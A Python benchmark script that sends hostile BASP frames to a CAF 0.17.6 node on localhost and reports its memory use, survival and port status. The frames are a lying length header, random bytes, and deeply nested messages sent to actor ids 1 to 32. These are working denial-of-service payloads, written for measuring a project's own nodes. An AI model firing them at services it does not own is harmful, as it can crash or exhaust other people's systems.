#!/usr/bin/env python3
"""Raw BASP frames against a node, as a hostile peer would send them.

Measures what CAF 0.17.6 does with frames no CAF peer would send; the figures
are in SECURITY.md. Only for nodes you run yourself, on 127.0.0.1.

  tools/bench/raw_frames.py --port=P --pid=PID lying-header --connections=4
  tools/bench/raw_frames.py --port=P --pid=PID random --connections=20 --bytes=65536
  tools/bench/raw_frames.py --port=P --pid=PID nested --depth=30000   # to actor ids 1..32

Prints one JSON object per run: the node's RSS (KiB) before and after, whether
the node process is still alive, and whether the port still accepts.
"""
import argparse
import json
import os
import socket
import struct
import sys
import time


def rss_kb(pid):
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1])
    except OSError:
        return -1
    return -1


def alive(pid):
    try:
        with open(f"/proc/{pid}/stat") as f:
            return f.read().split()[2] != "Z"
    except OSError:
        return False


def header(operation, payload_len, operation_data=0, source=0, dest=0):
    # CAF 0.17 BASP header: 32 bytes, network byte order.
    return struct.pack(">BBBBIQQQ", operation, 0, 0, 0, payload_len, operation_data, source, dest)


def varbyte(n):
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def string(s):
    b = s.encode()
    return varbyte(len(b)) + b


def nested_message(depth):
    # message = uint16 0, string type names, then the elements; a message
    # holding one message holding one message ... holding the empty message.
    inner = struct.pack(">H", 0) + string("@<>")
    outer = struct.pack(">H", 0) + string("@<>+@message")
    return outer * depth + inner


def connect(port):
    s = socket.create_connection(("127.0.0.1", port), timeout=5)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return s


def port_accepts(port):
    try:
        s = connect(port)
        s.close()
        return True
    except OSError:
        return False


def settle(pid, seconds):
    # Let the node act on what it received; report the peak RSS meanwhile.
    peak = rss_kb(pid)
    end = time.time() + seconds
    while time.time() < end and alive(pid):
        peak = max(peak, rss_kb(pid))
        time.sleep(0.05)
    return peak


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--pid", type=int, required=True)
    p.add_argument("--connections", type=int, default=1)
    p.add_argument("--bytes", type=int, default=65536)
    p.add_argument("--depth", type=int, default=30000)
    p.add_argument("--payload-len", type=lambda x: int(x, 0), default=0xFFFFFFFF)
    p.add_argument("--wait", type=float, default=3.0)
    p.add_argument("attack", choices=["lying-header", "random", "nested"])
    a = p.parse_args()
    before = rss_kb(a.pid)
    socks = []
    errors = 0
    for i in range(a.connections):
        try:
            s = connect(a.port)
            if a.attack == "lying-header":
                # A direct message to actor 1 announcing payload_len bytes.
                s.sendall(header(0x02, a.payload_len, 0, 0, 1) + b"\0" * 1024)
            elif a.attack == "random":
                s.sendall(os.urandom(a.bytes))
            else:
                # CAF deserializes only messages to a registered actor: one
                # connection per actor id 1..32 (the gateway is among them).
                payload = b"\x00" + nested_message(a.depth)  # empty forwarding stack
                s.close()
                for dest in range(1, 33):
                    if not alive(a.pid):
                        break
                    t = connect(a.port)
                    t.sendall(header(0x02, len(payload), 0, 0, dest) + payload)
                    socks.append(t)
                    time.sleep(0.05)
                continue
            socks.append(s)
        except OSError:
            errors += 1
    peak = settle(a.pid, a.wait)
    result = {
        "attack": a.attack,
        "connections": a.connections,
        "send_errors": errors,
        "rss_kb_before": before,
        "rss_kb_peak": peak,
        "rss_kb_after": rss_kb(a.pid),
        "node_alive": alive(a.pid),
        "port_accepts": port_accepts(a.port) if alive(a.pid) else False,
    }
    if a.attack == "nested":
        result["depth"] = a.depth
    if a.attack == "random":
        result["bytes_per_connection"] = a.bytes
    print(json.dumps(result))
    for s in socks:
        s.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
